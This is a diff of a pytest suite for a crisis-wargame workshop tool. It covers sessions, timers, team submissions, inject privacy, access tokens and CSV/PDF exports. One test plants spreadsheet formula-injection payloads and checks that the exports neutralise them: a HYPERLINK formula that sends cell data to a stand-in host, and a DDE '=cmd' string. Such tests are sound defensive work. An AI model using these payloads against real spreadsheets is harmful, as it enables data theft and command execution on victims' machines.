@@ -3,10 +3,12 @@ and views that never leak controller-only material."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
 import random
+import re
 import signal
 import subprocess
 import sys
@@ -18,6 +20,7 @@ import pytest
 from sim.errors import InputError, SessionError
 from sim.inputs.condition import Condition
 from sim.inputs.library import SCENARIOS_DIR
+from sim.workshop import views
 from sim.workshop.documents import aar_markdown, export_all
 from sim.workshop.render import hotwash_html, projector_html, team_html
 from sim.workshop.session import Session
@@ -36,7 +39,7 @@ def scripted(folder: Path) -> Session:
     s.start_timer(20)
     s.add_time(1)
     s.set_phase("deliberation")
-    prop = s.ai_proposal("PRC")
+    prop = s.advice("PRC")["options"][0]
     alt = next(a for a in ("hold", "protest", "propose_talks") if a != prop["action"])
     alt_target = None if alt == "hold" else "JPN"
     with pytest.raises(SessionError, match="needs a reason"):
@@ -74,13 +77,16 @@ def scripted(folder: Path) -> Session:
 def test_scripted_session_to_after_action_report(tmp_path):
     s = scripted(tmp_path / "s")
     assert s.state.move == 3 and s.state.ended and len(s.state.moves) == 3
-    files = {p.name for p in export_all(s)}
+    files = {p.name: p for p in export_all(s)}
     assert {"aar.md", "aar.html", "decisions.csv", "msel_released.csv", "inject_cards.html", "role_sheets.html",
-            "facilitator_handbook.html", "escalation.png"} <= files
+            "facilitator_handbook.html", "escalation.png"} <= set(files)
+    for name in ("aar", "inject_cards", "role_sheets", "facilitator_handbook"):  # every printable as PDF too
+        assert files[f"{name}.pdf"].read_bytes()[:5] == b"%PDF-"
     md = aar_markdown(s)
-    for section in ("Exercise overview", "Move-by-move narrative", "Decision log", "Crisis-channel usage",
-                    "Escalation trajectory", "diverged from the AI", "Findings and recommendations",
-                    "improvement plan", "DRAFT"):
+    for section in ("Exercise overview", "Analysis of objectives", "Expected versus actual", "Move-by-move narrative",
+                    "Decision log", "Adjudication audit", "Crisis-channel usage", "Escalation trajectory",
+                    "diverged from the AI", "Hot wash", "Appendix A: Improvement plan", "Appendix B: Participants",
+                    "DRAFT"):
         assert section in md, section
     assert "Team wants to avoid escalation" in md  # the override reason is in the divergence list
     assert "matrix: p=0.80" in md and "No channel covers the coast guards" in md
@@ -186,7 +192,7 @@ def test_projector_and_team_views_never_leak(tmp_path):
     s.release("S1")
     s.set_phase("submission")
     s.submit("JPN", "coast_guard_patrol", "PRC", public=False, rationale="SECRET-RATIONALE-JPN")
-    prop = s.ai_proposal("PRC")
+    prop = s.advice("PRC")["options"][0]
     s.submit("PRC", prop["action"], prop["target"])
     s.submit_ai()
     s.set_phase("adjudication")
@@ -245,8 +251,10 @@ def test_a_workshop_plays_a_condition(tmp_path):
 
 
 def _rewrite_log(folder: Path, change) -> None:
+    """Rewrite a log as an older version would have written it (no integrity digests)."""
     lines = [json.loads(x) for x in (folder / Session.LOG).read_text().splitlines()]
-    (folder / Session.LOG).write_text("".join(json.dumps(change(e), sort_keys=True) + "\n" for e in lines))
+    (folder / Session.LOG).write_text("".join(json.dumps({k: v for k, v in change(e).items() if k != "digest"},
+                                                         sort_keys=True) + "\n" for e in lines))
 
 
 def test_release_draws_the_injects_chance(tmp_path):
@@ -304,3 +312,226 @@ def test_terminal_console_drives_the_same_session(tmp_path):
     assert "! missing decisions from PRC, US" in text  # a preview before every team has decided
     assert "50 runs from move 1" in text and "unknown command 'bogus'" in text
     assert len(s.state.moves) == 1 and Session.load(tmp_path / "t").hash() == s.hash()
+
+
+# ---------------------------------------------------------------------------- live-room rules
+
+TAIWAN = SCENARIOS_DIR / "taiwan_strait.yaml"
+
+
+def test_seats_are_checked(tmp_path):
+    from sim.workshop.session import parse_seats
+
+    with pytest.raises(SessionError, match="unknown seat mode 'humna' for JPN"):
+        Session.create(tmp_path / "a", SENKAKU, seats=parse_seats("JPN=humna"))
+    with pytest.raises(SessionError, match="unknown actor 'JAPAN'"):
+        Session.create(tmp_path / "b", SENKAKU, seats=parse_seats("JAPAN=human"))
+    with pytest.raises(SessionError, match="not ACTOR=MODE"):
+        parse_seats("JPN")
+    assert not (tmp_path / "a" / Session.LOG).exists()
+
+
+def test_timer_counts_stops_resets_and_belongs_to_its_phase(tmp_path):
+    s = Session.create(tmp_path / "t", SENKAKU, seed=1)
+    s.start_move()
+    s.set_phase("deliberation")
+    for bad in ("inf", "nan", "1e308", "-1", 0, "ten"):
+        with pytest.raises(SessionError, match=r"between 0\.1 and 240"):
+            s.start_timer(bad)
+    s.start_timer(20)
+    assert 1199 <= s.timer()["remaining"] <= 1200 and s.timer()["running"]
+    s.add_time(1)
+    assert s.timer()["remaining"] > 1250
+    s.stop_timer()
+    left = s.timer()["remaining"]
+    assert not s.timer()["running"] and s.timer(now=10**10)["remaining"] == left  # stopped: it does not move
+    s.add_time("-2")
+    assert s.timer()["remaining"] == pytest.approx(left - 120)
+    s.resume_timer()
+    s.pause(True)  # the room's pause stops the countdown too
+    assert not s.timer()["running"]
+    s.pause(False)
+    assert s.timer()["running"]
+    s.reset_timer()
+    assert s.timer()["remaining"] > 1199
+    s.set_phase("submission")
+    assert s.timer() is None  # a countdown belongs to its phase
+    s.start_timer(0.1)
+    assert Session.load(tmp_path / "t").timer()["minutes"] == 0.1
+
+
+def test_teams_submit_confirm_and_withdraw_before_the_deadline(tmp_path):
+    s = Session.create(tmp_path / "w", SENKAKU, seed=2, seats={"JPN": "human", "PRC": "hybrid"})
+    s.start_move()
+    s.set_phase("submission")
+    s.by = "team:JPN"
+    with pytest.raises(SessionError, match="only its own move"):
+        s.submit("PRC", "protest", "JPN")
+    s.submit("JPN", "protest", "PRC", rationale="from our page")
+    assert s.state.pending["JPN"].by == "team:JPN"
+    with pytest.raises(SessionError, match="withdraw it first"):
+        s.submit("JPN", "hold")
+    s.withdraw("JPN")
+    s.submit("JPN", "hotline_call", "PRC", channel="Japan-China Maritime and Aerial Communication Mechanism")
+    s.by = None
+    s.start_timer(0.1)
+    s.state.timer["ends"] -= 10  # the countdown has run out
+    s.by = "team:JPN"
+    with pytest.raises(SessionError, match="deadline has passed"):
+        s.withdraw("JPN")
+    s.by = None
+    s.add_time(0.5)  # the facilitator re-opens submissions
+    s.by = "team:PRC"
+    top = s.advice("PRC")["options"][0]
+    s.submit("PRC", top["action"], top["target"])
+    assert s.state.pending["PRC"].source == "hybrid-approved"
+    s.by = None
+    s.submit_ai()
+    assert [e.get("by") for e in s.events if e["type"] == "decision"][:3] == ["team:JPN", "team:JPN", "team:PRC"]
+    assert [w["actor"] for w in s.state.withdrawn] == ["JPN"]
+
+
+def test_advice_is_frozen_per_move_with_three_labelled_options(tmp_path):
+    s = Session.create(tmp_path / "a", SENKAKU, seed=4, seats={"PRC": "hybrid"})
+    s.start_move()
+    assert not s.advice("PRC")["frozen"]
+    s.set_phase("deliberation")
+    adv = s.advice("PRC")
+    assert adv["frozen"] and len(adv["options"]) == 3
+    probs = [o["probability"] for o in adv["options"]]
+    assert probs == sorted(probs, reverse=True) and all(o["label"] and o["drivers"] for o in adv["options"])
+    s.release("S1")  # an inject after deliberation began does not move the advice
+    assert s.advice("PRC")["options"] == adv["options"]
+    s.submit_ai("PRC")
+    sub = s.state.pending["PRC"]
+    assert sub.source == "hybrid-approved" and sub.action == adv["options"][0]["action"]
+
+
+def test_injects_edited_written_held_and_private(tmp_path):
+    s = Session.create(tmp_path / "i", TAIWAN, seed=2)
+    s.start_move()
+    s.hold("T3")
+    s.release("T1")
+    s.set_phase("submission")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    s.start_move()
+    assert views.msel_status(s)["T3"] == "held"  # a hold lasts until it is released, unheld or skipped
+    s.release_edited("T3", text="A quiet offer of talks", to=["US"])
+    xid = s.write_inject("Cabinet wants options", "Within six hours", to=["JPN", "TWN"])
+    rows = {r["id"]: r for r in views.msel_rows(s)}
+    assert rows["T3"]["edited"] and rows["T3"]["to"] == ["US"] and rows[xid]["written"] and not rows[xid]["edited"]
+    assert rows[xid]["to"] == ["TWN", "JPN"]
+    proj, us, prc = projector_html(s), team_html(s, "US"), team_html(s, "PRC")
+    assert "A quiet offer of talks" in us and "back channel" not in proj and "back channel" not in prc
+    assert "Cabinet wants options" in team_html(s, "JPN") and "Cabinet wants options" not in proj
+    s.set_phase("submission")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    md = aar_markdown(s)
+    assert "Cabinet wants options (written)" in md and "(edited)" in md
+
+
+def test_readout_is_revealed_item_by_item_with_rolls_and_calls(tmp_path):
+    s = Session.create(tmp_path / "r", SENKAKU, seed=4, seats={"JPN": "human"})
+    s.start_move()
+    s.release("S1")
+    s.set_phase("submission")
+    s.submit("JPN", "hotline_call", "PRC")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.adjudicate("JPN", "matrix", probability=0.9, arguments="A call is cheap")
+    s.resolve()
+    rec = s.state.moves[-1]
+    assert rec.calls["JPN"] and "calls" not in repr(rec)  # read-out detail stays out of the pinned repr
+    assert "Call on the crisis hotline" not in projector_html(s)  # nothing shown before the reveal
+    s.reveal()
+    page = projector_html(s)
+    assert "Japan: Call on the crisis hotline toward China" in page and "Matrix roll: needed under 0.90" in page
+    answered = "was answered" if rec.calls["JPN"][0]["answered"] else "was not answered"
+    assert answered in page
+    assert s.reveal(-1) == s.readout_size()
+
+
+def test_secret_moves_leave_no_trace_for_the_room_until_revealed(tmp_path):
+    s = Session.create(tmp_path / "x", SENKAKU, seed=4, seats={"PRC": "human"})
+    s.start_move()
+    s.set_phase("submission")
+    s.submit("PRC", "coast_guard_patrol", "JPN", public=False)
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    s.reveal(-1)
+    levels = views.public_levels(s)
+    assert levels["PRC"] == [(1, "status_quo")]  # carried over, no gap
+    assert views.true_levels(s)["PRC"] == [(1, "grey_zone")]
+    jpn = views.team_model(s, "JPN")
+    assert next(o for o in jpn["others"] if o["actor"] == "PRC")["did"] == "no public move yet"
+    assert "Coast-guard patrols" not in team_html(s, "JPN") and "Coast-guard patrols" not in projector_html(s)
+    s.set_phase("hotwash")
+    assert "Coast-guard patrols" not in hotwash_html(s)
+    s.reveal_secrets()
+    assert "Coast-guard patrols in contested waters \u2192 Grey-zone presence (secret)" in hotwash_html(s)
+
+
+def test_csv_exports_neutralise_formulas(tmp_path):
+    s = Session.create(tmp_path / "c", SENKAKU, seed=1, seats={"JPN": "human"})
+    s.start_move()
+    s.write_inject('=HYPERLINK("http://x.example/?q="&A1,"Click")')
+    s.set_phase("submission")
+    s.submit("JPN", "protest", "PRC", rationale="=cmd|' /C calc'!A0")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    from sim.workshop.documents import msel_as_released
+
+    for text in (s.decisions_csv(), msel_as_released(s)):
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert "'=cmd|' /C calc'!A0" in s.decisions_csv()
+
+
+def test_every_action_is_checked_against_the_role_of_its_link(tmp_path):
+    from sim.workshop import server
+    from sim.workshop.access import AccessDenied
+
+    s = Session.create(tmp_path / "a", SENKAKU, seed=1, seats={"JPN": "human"})
+    server.setup(session=s)
+    links = server.links("http://room:1")
+    token = {name: url.split("k=")[1] for name, url in links.items()}
+    assert set(token) == {"facilitator", "projector", "observer", "team:JPN", "team:PRC", "team:US"}
+    assert len(set(token.values())) == 6 and all(len(t) >= 20 for t in token.values())
+    assert oct((tmp_path / "a" / "access.json").stat().st_mode)[-3:] == "600"
+    server.act(token["facilitator"], "start_move")
+    for who, call, kwargs in (("team:JPN", "release", {"inject_id": "S1"}), ("team:JPN", "start_move", {}),
+                              ("team:JPN", "submit", {"actor": "PRC", "action": "hold"}),
+                              ("projector", "note", {"text": "x"}), ("observer", "submit", {"actor": "JPN"}),
+                              ("nobody", "note", {"text": "x"}), ("facilitator", "__init__", {})):
+        with pytest.raises(AccessDenied):
+            server.act(token.get(who, "not-a-token"), call, **kwargs)
+    server.act(token["team:JPN"], "submit", actor="JPN", action="protest", target="PRC")
+    server.act(token["observer"], "observe", text="JPN protested at once")
+    assert s.events[-2]["by"] == "team:JPN" and s.events[-1]["by"] == "observer"
+    assert Session.load(tmp_path / "a").state.observations[0]["by"] == "observer"
+    s.close()
+
+
+def test_terminal_refuses_hostile_values_in_one_line(tmp_path):
+    s = Session.create(tmp_path / "h", SENKAKU, seed=4, seats={"JPN": "human"})
+    script = ("move\nrelease S1\nphase deliberation\ntimer inf\ntimer nan\ntimer 1e308\ntimer -1e308\ntimer 20\n"
+              "timer +1\ntimer stop\nforecast 200000000\nforecast abc\nphase submission\ndecide JPN protest PRC\nai\n"
+              "phase adjudication\nadjudicate US ruling fail\nadjudicate US ruling\nundo\nstatus\n")
+    out = io.StringIO()
+    Console(s, stdin=io.StringIO(script), stdout=out).cmdloop()
+    text = out.getvalue()
+    assert text.count("! timer minutes must be between 0.1 and 240") == 3
+    assert "! added minutes must be between -240 and 240" in text
+    assert text.count("! a forecast takes 1 to 20,000 runs") == 2
+    assert "  released S1" in text and "  phase deliberation" in text
+    assert re.search(r"timer 2[01]:\d\d stopped", text)
+    assert "! a facilitator ruling needs a reason" in text
+    assert "! a ruling says 'succeed' or 'fail', then its reason" in text
+    assert "! there is no adjudication to undo" in text and "Traceback" not in text
+    assert all(e.get("ends") is None or e["ends"] < 1e10 for e in s.events if e["type"] == "timer")
